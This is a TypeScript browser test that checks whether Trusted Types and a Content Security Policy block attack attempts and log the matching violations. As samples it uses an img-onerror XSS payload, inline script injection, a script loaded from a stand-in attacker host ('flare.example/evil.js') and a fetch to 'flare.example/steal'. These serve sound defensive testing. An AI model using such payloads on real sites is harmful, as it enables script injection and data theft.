import { expect, open, test } from "./test.ts";

test("what an attacker would try is refused by the browser, and noticed by these tests", async ({ page, noise }) => {
  await open(page, "/");
  const ran = await page.evaluate(async () => {
    const attempt = (action: () => unknown) => {
      try {
        action();
      } catch {
        // Trusted Types refuse with an error.
      }
    };
    const script = document.createElement("script");
    attempt(() => {
      document.body.innerHTML += "<img src=x onerror='window.ran = true'>";
    });
    attempt(() => {
      script.textContent = "window.ran = true";
    });
    attempt(() => {
      script.src = "https://flare.example/evil.js";
    });
    document.body.append(script);
    document.body.setAttribute("style", "color: red");
    await fetch("https://flare.example/steal").catch(() => {});
    return "ran" in window;
  });
  expect(ran).toBe(false);
  for (const directive of ["require-trusted-types-for", "style-src-attr", "connect-src"])
    await expect.poll(() => noise.join("\n")).toContain(`policy: ${directive} forbids`);
  noise.length = 0;
});
